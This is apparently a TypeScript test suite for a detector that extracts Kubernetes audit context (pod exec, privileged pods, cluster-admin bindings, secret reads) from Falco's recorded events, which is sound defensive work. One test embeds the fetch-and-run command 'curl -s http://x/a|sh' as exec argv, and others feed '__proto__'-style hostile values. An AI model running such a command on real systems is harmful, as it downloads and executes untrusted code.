/**
 * Context events from real recorded audit events: Falco's k8s_audit
 * regression suite (read in place from the anchors) and the project's golden
 * cases. Everything else gives no context event.
 */
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { describe, test } from 'node:test';
import { CONTEXT_RULES, contextFromAuditEvent } from '../../src/incidents/audit-context.js';
import { anchorPath, anchorsAvailable, anchorsMissingReason } from '../helpers/anchors.js';
import { auditEvent, context, readAnchorEvent, readAnchorEvents, readGoldenEvents, variant } from './helpers.js';

const skip = anchorsAvailable ? false : anchorsMissingReason;

describe('context events from Falco\'s recorded k8s_audit suite', { skip }, () => {
  test('exec into a pod: user, pod, container, argv from the request URI, the request time', () => {
    const c = context(readAnchorEvent('exec_pod.json'));
    assert.equal(c.kind, 'context');
    assert.equal(c.rule, CONTEXT_RULES.exec);
    assert.equal(c.priority, 'Informational');
    assert.equal(c.source, 'k8s_audit');
    assert.equal(c.user, 'minikube-user');
    assert.equal(c.namespace, 'default');
    assert.equal(c.pod, 'nginx-deployment-7998647bdf-phvq7');
    assert.equal(c.time, 1540561114867116000n, 'requestReceivedTimestamp');
    assert.deepEqual(c.correlation, {
      auditId: 'ca1ed9f4-7bf4-4c85-81a8-1b11253d1ba6',
      user: 'minikube-user',
      verb: 'create',
      resource: 'pods',
      subresource: 'exec',
      namespace: 'default',
      name: 'nginx-deployment-7998647bdf-phvq7',
      pod: 'nginx-deployment-7998647bdf-phvq7',
      container: 'nginx1',
      command: 'bash',
    });
    assert.equal(c.outputFields['ka.uri.param[command]'], 'bash');
    assert.match(c.output, /: Informational minikube-user exec into default\/nginx-deployment-7998647bdf-phvq7 container=nginx1 command=bash \(audit_id=ca1ed9f4/);
  });

  test('repeated command= parameters are the argv, URL-decoded', () => {
    const ev = variant(readAnchorEvent('exec_pod.json'), {
      requestURI: '/api/v1/namespaces/default/pods/p/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2Fx%2Fa%7Csh&container=c&stdout=true',
    });
    const c = context(ev);
    assert.deepEqual(c.outputFields['exec.argv'], ['sh', '-c', 'curl -s http://x/a|sh']);
    assert.equal(c.correlation.command, 'sh -c curl -s http://x/a|sh');
  });

  test('exec over WebSocket (a GET) counts; a forbidden one and the RequestReceived stage do not', () => {
    assert.equal(context(variant(readAnchorEvent('exec_pod.json'), { verb: 'get' })).rule, CONTEXT_RULES.exec);
    assert.equal(contextFromAuditEvent(auditEvent(variant(readAnchorEvent('exec_pod.json'), { responseStatus: { code: 403 } }))), undefined);
    assert.equal(contextFromAuditEvent(auditEvent(variant(readAnchorEvent('exec_pod.json'), { stage: 'RequestReceived', responseStatus: undefined }))), undefined);
  });

  test('attach to a pod', () => {
    const c = context(readAnchorEvent('attach_pod.json'));
    assert.equal(c.rule, CONTEXT_RULES.attach);
    assert.equal(c.pod, 'nginx-deployment-7998647bdf-phvq7');
  });

  test('privileged, hostPath, hostNetwork pods: what makes them risky, the created pod\'s name and UID', () => {
    const priv = context(readAnchorEvent('create_nginx_pod_privileged.json'));
    assert.equal(priv.rule, CONTEXT_RULES.riskyPod);
    assert.equal(priv.user, 'system:serviceaccount:kube-system:replicaset-controller');
    assert.equal(priv.pod, 'nginx-deployment-5cdcc99dbf-rgw6z');
    assert.equal(priv.podUid, '8c845395-d85f-11e8-88b6-080027728ac4');
    assert.deepEqual(priv.outputFields['pod.host_access'], ['privileged']);

    const mount = context(readAnchorEvent('create_nginx_pod_sensitive_mount.json'));
    assert.deepEqual(mount.outputFields['pod.host_access'], ['hostPath /etc']);
    assert.deepEqual(mount.outputFields['ka.req.pod.volumes.hostpath'], ['/etc']);

    const net = context(readAnchorEvent('create_nginx_pod_hostnetwork.json'));
    assert.deepEqual(net.outputFields['pod.host_access'], ['hostNetwork']);

    // The second container is the privileged one.
    assert.deepEqual(context(readAnchorEvent('create_nginx_pod_privileged_2nd_container.json')).outputFields['pod.host_access'], ['privileged']);
  });

  test('cluster-admin bound to a user; an ordinary binding too', () => {
    const c = context(readAnchorEvent('attach_cluster_admin_role.json'));
    assert.equal(c.rule, CONTEXT_RULES.binding);
    assert.equal(c.user, 'minikube-user');
    assert.deepEqual(JSON.parse(c.correlation.subjects!), ['minikube']);
    assert.equal(c.correlation.clusterAdmin, 'true');
    assert.equal(c.outputFields['binding.cluster_admin'], true);
    assert.match(c.output, /minikube-user bound ClusterRole cluster-admin \(full control of the cluster\) to minikube/);
    const plain = context(readAnchorEvent('create_clusterrolebinding.json'));
    assert.equal(plain.correlation.clusterAdmin, undefined);
    assert.equal(plain.correlation.role, 'system:basic-user');
  });

  test('every other recorded event gives none', () => {
    const withContext = new Set([
      'exec_pod.json', 'attach_pod.json', 'attach_cluster_admin_role.json', 'create_clusterrolebinding.json',
      'create_nginx_pod_privileged.json', 'create_nginx_pod_privileged_2nd_container.json',
      'create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json', 'create_nginx_pod_sensitive_mount.json',
      'create_nginx_pod_sensitive_mount_2nd_container.json', 'create_nginx_pod_hostnetwork.json',
    ]);
    const dir = anchorPath('falco-k8s-audit-suite', 'trace_files', 'k8s_audit');
    let checked = 0;
    for (const name of readdirSync(dir).filter((n) => n.endsWith('.json'))) {
      for (const obj of readAnchorEvents(name)) {
        if (obj['kind'] !== 'Event') continue;
        const c = contextFromAuditEvent(auditEvent(obj));
        assert.equal(c !== undefined, withContext.has(name), name);
        checked++;
      }
    }
    assert.ok(checked >= 40, `${checked}`);
  });
});

describe('context events from the golden secret_access case', () => {
  const events = readGoldenEvents('secret_access');

  test('a service account reading secrets with a bound token: its pod, pod UID and node', () => {
    const c = context(events.find((e) => e['auditID'] === '821b5eb9-d913-4a4d-b2b0-96224f259cdf')!);
    assert.equal(c.rule, CONTEXT_RULES.secretRead);
    assert.equal(c.user, 'system:serviceaccount:argocd:argocd-application-controller');
    assert.equal(c.namespace, 'argocd');
    assert.equal(c.pod, 'argocd-application-controller-0');
    assert.equal(c.podUid, '8594e2a9-6b16-4217-9939-1a4f4072922d');
    assert.equal(c.correlation.node, 'worker-1');
    assert.match(c.output, /list secrets in all namespaces from pod argocd\/argocd-application-controller-0/);
  });

  test('a person reading a secret is not a service account\'s story', () => {
    const alice = events.find((e) => (e['user'] as { username: string }).username === 'alice@example.com')!;
    assert.equal(contextFromAuditEvent(auditEvent(alice)), undefined);
  });
});

describe('hostile audit events', { skip }, () => {
  test('wrong types anywhere give no context event and no exception', () => {
    const base = readAnchorEvent('exec_pod.json');
    const shapes: Record<string, unknown>[] = [
      { objectRef: { resource: 'pods', subresource: 'exec', name: 5, namespace: 'x' } },
      { objectRef: 'pods' },
      { user: ['x'] },
      { user: { username: { toString: 'x' } } },
      { verb: ['create'] },
      { requestURI: 42 },
      { objectRef: { resource: 'pods', namespace: 'd' }, requestObject: { spec: { containers: 'x', volumes: { hostPath: 1 } } }, responseObject: 'nope' },
      { objectRef: { resource: 'clusterrolebindings' }, requestObject: { roleRef: 'cluster-admin', subjects: {} } },
      { objectRef: { resource: 'secrets' }, verb: 'get', user: { username: 'system:serviceaccount:onlyns', extra: { 'authentication.kubernetes.io/pod-name': 'notalist' } } },
      { objectRef: { resource: 'pods', subresource: 'exec', name: 'constructor', namespace: '__proto__' }, requestURI: '/x?command=%ZZ' },
    ];
    for (const shape of shapes) {
      const evt = auditEvent(variant(base, shape));
      const c = contextFromAuditEvent(evt);
      if (c) {
        for (const v of Object.values(c.correlation)) assert.equal(typeof v, 'string');
      }
    }
    // A bad escape keeps the rest of the query (URLSearchParams leaves it undecoded).
    const odd = context(variant(base, { requestURI: '/x?command=%ZZ&container=c' }));
    assert.equal(odd.correlation.command, '%ZZ');
  });

  test('argv and volume lists are bounded', () => {
    const argv = new Array(1000).fill('command=a').join('&');
    const c = context(variant(readAnchorEvent('exec_pod.json'), { requestURI: `/x?${argv}` }));
    assert.equal((c.outputFields['exec.argv'] as string[]).length, 64);
  });
});
